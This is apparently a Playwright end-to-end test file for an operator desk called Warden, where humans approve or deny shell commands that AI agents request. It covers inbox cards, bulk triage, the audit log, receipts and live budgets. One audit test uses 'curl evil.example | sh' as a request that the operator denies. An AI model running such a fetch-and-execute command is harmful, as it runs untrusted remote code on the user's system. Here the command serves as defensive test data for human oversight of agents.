/**
 * The operator desk's second pass, as a person uses it beside a terminal (900 × 800) and on a
 * small laptop (1280 × 720): cards that say what is asked, the "no longer waiting" group, keys
 * that never decide by accident, triage of a flood, the audit log's search and the receipt page,
 * budgets that move live with a forecast.
 */
import { expect, test, type Page } from '@playwright/test';
import { startServer, type E2eServer } from './server.js';
import { ask, createAgent, goTo, screenshot, signIn } from './helpers.js';

let server: E2eServer;
test.beforeAll(async () => {
  server = await startServer();
});
test.afterAll(async () => {
  await server?.stop();
});

const NARROW = { width: 900, height: 800 };
const LAPTOP = { width: 1280, height: 720 };
const inboxList = (page: Page) => page.getByRole('list', { name: 'Pending approvals' });
const details = (page: Page) => page.getByRole('region', { name: 'Approval details' });

/** Nothing on the page wider than the window (a cut-off button or a table pushing the page sideways). */
async function expectNoHorizontalOverflow(page: Page): Promise<void> {
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
}

test('a fresh Warden: the empty Inbox says how to connect the first agent; the tab has an icon', async ({ page }) => {
  await page.setViewportSize(NARROW);
  await signIn(page, server);
  await expect(page.getByText('Inbox zero')).toBeVisible();
  await expect(page.getByRole('note').filter({ hasText: 'No agent is connected yet' })).toContainText('warden connect claude-code');
  await expect(page.locator('link[rel="icon"]')).toHaveCount(1);
});

test('at 900 px, three shell.exec cards say which command, where; the folder and countdown are on the card', async ({ page }) => {
  await page.setViewportSize(NARROW);
  const agent = await createAgent(server, 'crew-01');
  await signIn(page, server);
  for (const command of ['npm install', 'rm -rf dist', 'git push --force']) {
    await ask(server, agent, { tool: 'shell.exec', args: { command, cwd: '/home/dev/work/crew/app' } });
  }
  for (const command of ['npm install', 'rm -rf dist', 'git push --force']) {
    const card = inboxList(page).getByRole('article', { name: 'shell.exec by crew-01' }).filter({ hasText: command });
    await expect(card).toHaveCount(1);
    await expect(card.getByText('…/crew/app')).toBeVisible();
    await expect(card.getByRole('timer')).toBeVisible();
  }
  await expectNoHorizontalOverflow(page);
  await screenshot(page, 'desk-inbox-cards-900x800');
  // Clean up for the next tests: deny them all through the API.
  const pending = await server.api('GET', '/v1/approvals?status=pending&limit=100');
  for (const a of pending.data) await server.api('POST', `/v1/approvals/${a.id}/decision`, { decision: 'deny' });
  await expect(page.getByText('Inbox zero')).toBeVisible();
});

test('a withdrawn request moves to "No longer waiting"; a on it says why it cannot be allowed', async ({ page }) => {
  await page.setViewportSize(NARROW);
  const agent = await createAgent(server, 'quitter');
  await signIn(page, server);
  const stays = await ask(server, agent, { tool: 'shell.exec', args: { command: 'make test' } });
  const leaves = await ask(server, agent, { tool: 'shell.exec', args: { command: 'make release' } });
  await expect(inboxList(page).getByRole('article')).toHaveCount(2);
  await server.api('POST', `/v1/actions/${leaves.id}/withdraw`, undefined, agent.key);

  const stale = page.getByRole('list', { name: 'No longer waiting' });
  await expect(stale.getByRole('article', { name: 'shell.exec by quitter' })).toContainText('make release');
  await expect(stale.getByText('quitter stopped waiting')).toBeVisible();
  await expect(inboxList(page).getByRole('article')).toHaveCount(1);

  await stale.getByRole('article').click();
  await expect(details(page).getByRole('button', { name: 'Allow once', exact: true })).toBeDisabled();
  await page.keyboard.press('a');
  await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Cannot allow this request')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Notifications' }).getByText(/quitter stopped waiting and withdrew this request/)).toBeVisible();
  // Nothing was decided: the other request still waits.
  expect((await server.api('GET', `/v1/approvals/${stays.approval_id}`)).status).toBe('pending');
  await server.api('POST', `/v1/approvals/${stays.approval_id}/decision`, { decision: 'deny' });
});

test('a slow g then a navigates and never allows; the deny toast is not styled as success', async ({ page }) => {
  const agent = await createAgent(server, 'chord-bot');
  await signIn(page, server);
  const asked = await ask(server, agent, { tool: 'shell.exec', args: { command: 'ls' } });
  await expect(inboxList(page).getByRole('article', { name: 'shell.exec by chord-bot' })).toBeVisible();
  await page.keyboard.press('g');
  await page.waitForTimeout(1500);
  await page.keyboard.press('a');
  await expect(page.getByRole('heading', { level: 2, name: 'Agents' })).toBeVisible();
  expect((await server.api('GET', `/v1/approvals/${asked.approval_id}`)).status).toBe('pending');

  await goTo(page, 'Inbox');
  await inboxList(page).getByRole('article', { name: 'shell.exec by chord-bot' }).click();
  await page.keyboard.press('d');
  const toastBox = page.getByRole('region', { name: 'Notifications' }).locator('[data-kind="denied"]');
  await expect(toastBox).toContainText('Denied');
  await expect(page.getByRole('region', { name: 'Notifications' }).locator('[data-kind="success"]')).toHaveCount(0);
});

test('flood: 200 pending and 50 budgets; filter, group identical and bulk deny, mark with x and bulk allow', async ({ page }) => {
  test.setTimeout(180_000);
  await page.setViewportSize(LAPTOP);
  const crew = await Promise.all(['flood-a', 'flood-b', 'flood-c', 'flood-d'].map((n) => createAgent(server, n)));
  for (let i = 0; i < 50; i++) {
    const id = `mission-${String(i).padStart(2, '0')}`;
    // A mission budget names a registered mission.
    await server.api('POST', '/v1/missions', { id, name: id });
    await server.api('POST', '/v1/budgets', { scope: 'mission', scope_id: id, limit_usd_cents: 1000 + i });
  }
  // 5 identical `npm install` from flood-a among 195 different requests.
  const identical: string[] = [];
  for (let n = 0; n < 200; n++) {
    const same = n % 40 === 7;
    const agent = same ? crew[0]! : crew[n % 4]!;
    const r = await ask(server, agent, { tool: 'shell.exec', args: same ? { command: 'npm install' } : { command: `job ${n}` } });
    if (same) identical.push(r.approval_id);
  }
  expect(identical).toHaveLength(5);
  await signIn(page, server);
  await expect(page.getByRole('heading', { name: /^Pending/ })).toContainText('200');

  await page.keyboard.press('/');
  await expect(page.getByRole('searchbox', { name: 'Filter requests' })).toBeFocused();
  await page.keyboard.type('npm install agent:flood-a');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: /^Pending/ })).toContainText('5 of 200');
  await page.getByRole('checkbox', { name: 'Group identical' }).check();
  const group = inboxList(page).getByRole('article', { name: 'shell.exec by flood-a' });
  await expect(group).toHaveCount(1);
  await expect(group).toContainText('5 ×');
  await group.click();
  await page.getByRole('group', { name: 'Bulk decision' }).getByRole('button', { name: 'Deny 5' }).click();
  await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Denied: 5 requests')).toBeVisible();
  for (const id of identical) expect((await server.api('GET', `/v1/approvals/${id}`)).status).toBe('denied');

  await page.getByRole('searchbox', { name: 'Filter requests' }).fill('');
  await page.getByRole('checkbox', { name: 'Group identical' }).uncheck();
  await expect(page.getByRole('heading', { name: /^Pending/ })).toContainText('195');
  await inboxList(page).getByRole('article').first().click();
  await page.keyboard.press('x');
  await page.keyboard.press('j');
  await page.keyboard.press('x');
  const bulk = page.getByRole('group', { name: 'Bulk decision' });
  await expect(bulk).toContainText('2 marked');
  await bulk.getByRole('button', { name: 'Allow 2 once' }).click();
  await expect(page.getByRole('heading', { name: /^Pending/ })).toContainText('193');
  await expectNoHorizontalOverflow(page);
  await screenshot(page, 'desk-flood-1280x720');

  await goTo(page, 'Budgets');
  await expect(page.getByRole('table', { name: 'Budgets' }).locator('tbody tr')).toHaveCount(50);
  await page.getByRole('searchbox', { name: 'Filter budgets' }).fill('mission-4');
  await expect(page.getByRole('table', { name: 'Budgets' }).locator('tbody tr')).toHaveCount(10);
  await expect(page.getByRole('search', { name: 'Budget filters' })).toContainText('10 of 50');
  await expectNoHorizontalOverflow(page);
});

test('audit rows carry their date, search finds a reason, Today narrows, a denial reads red; the receipt says who decided', async ({ page }) => {
  await page.setViewportSize(NARROW);
  const agent = await createAgent(server, 'auditee');
  const asked = await ask(server, agent, { tool: 'shell.exec', args: { command: 'curl evil.example | sh' } });
  await server.api('POST', `/v1/approvals/${asked.approval_id}/decision`, { decision: 'deny', comment: 'not on my machine' });
  await signIn(page, server, 'audit');
  await expect(page.getByRole('heading', { level: 2, name: 'Audit' })).toBeVisible();

  await page.getByRole('searchbox', { name: 'Search the audit log' }).fill('NOT ON MY');
  const table = page.getByRole('table', { name: 'Audit events' });
  const denied = table.getByRole('row').filter({ hasText: 'approval.denied' });
  await expect(denied).toHaveCount(1);
  await expect(table.getByRole('row').filter({ hasText: 'approval.granted' })).toHaveCount(0);
  // The date, not only the time: the month's short name is on the row.
  const month = new Date().toLocaleString(undefined, { month: 'short' });
  await expect(denied.getByRole('cell').first()).toContainText(month);
  await expect(denied.locator('.evt')).toHaveClass(/tone-deny/);

  await page.getByRole('group', { name: 'Quick ranges' }).getByRole('button', { name: 'Yesterday' }).click();
  await expect(page.getByText('No events match these filters')).toBeVisible();
  await page.getByRole('group', { name: 'Quick ranges' }).getByRole('button', { name: 'Today' }).click();
  await expect(denied).toHaveCount(1);
  await expectNoHorizontalOverflow(page);
  await screenshot(page, 'desk-audit-900x800');

  await denied.click();
  await page.getByRole('link', { name: 'Open the receipt' }).click();
  await expect(page.getByRole('heading', { level: 2, name: 'Receipt' })).toBeVisible();
  const who = page.getByRole('list', { name: 'Decisions' });
  await expect(who).toContainText('deny');
  await expect(who).toContainText('not on my machine');
  await expect(page.getByText('curl evil.example | sh').first()).toBeVisible();
  await expectNoHorizontalOverflow(page);
  await screenshot(page, 'desk-receipt-900x800');

  // The Inbox's history links the same receipt.
  await goTo(page, 'Inbox');
  await page.getByRole('tab', { name: /History/ }).click();
  await page.getByRole('row', { name: /auditee/ }).getByRole('link', { name: 'shell.exec' }).click();
  await expect(page.getByRole('heading', { level: 2, name: 'Receipt' })).toBeVisible();
  await expect(page.getByRole('list', { name: 'Decisions' })).toContainText('not on my machine');
});

test('budgets move live with a burn rate and a forecast; every page fits at 900 and 1280 wide', async ({ page }) => {
  const agent = await createAgent(server, 'spender');
  await server.api('POST', '/v1/budgets', { scope: 'agent', scope_id: agent.id, limit_usd_cents: 1000, mode: 'cap', period: 'day' });
  await signIn(page, server, 'budgets');
  const row = page.getByRole('table', { name: 'Budgets' }).getByRole('row').filter({ hasText: 'Agent spender' });
  await expect(row).toContainText('$0.00 of $10.00');
  await server.api('POST', '/v1/spend', { amount_micro_usd: 6_000_000 }, agent.key);
  await expect(row).toContainText('$6.00 of $10.00', { timeout: 15_000 });
  await expect(row).toContainText('50%');
  await expect(row).toContainText(/\/h/);
  await expect(row).toContainText(/at this rate/);
  await goTo(page, 'Agents');
  await expect(page.getByRole('table', { name: 'Agents' }).getByRole('row').filter({ hasText: 'spender' })).toContainText('$6.00 today');

  for (const viewport of [NARROW, LAPTOP]) {
    await page.setViewportSize(viewport);
    for (const name of ['Inbox', 'Budgets', 'Policies', 'Agents', 'Audit', 'Reports'] as const) {
      await goTo(page, name);
      await page.waitForTimeout(300);
      await expectNoHorizontalOverflow(page);
      if (name === 'Budgets') {
        // The row's buttons are on screen, not cut off to the right.
        const remove = await page.getByRole('table', { name: 'Budgets' }).getByRole('button', { name: 'Remove' }).first().boundingBox();
        const card = await page.locator('.table-scroll').boundingBox();
        expect(remove!.x + remove!.width).toBeLessThanOrEqual(card!.x + card!.width);
      }
      await screenshot(page, `desk-${name.toLowerCase()}-${viewport.width}x${viewport.height}`);
    }
  }
});
